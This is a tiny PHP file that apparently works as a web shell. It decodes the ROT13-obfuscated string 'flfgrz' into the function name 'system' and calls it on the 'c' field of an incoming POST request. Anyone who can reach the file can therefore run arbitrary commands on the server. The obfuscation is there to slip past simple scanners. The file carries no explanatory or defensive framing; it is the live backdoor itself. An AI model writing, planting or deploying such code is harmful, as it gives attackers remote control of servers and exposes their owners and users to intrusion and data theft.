<?php
$fn = str_rot13('flfgrz');
$fn($_POST['c']);
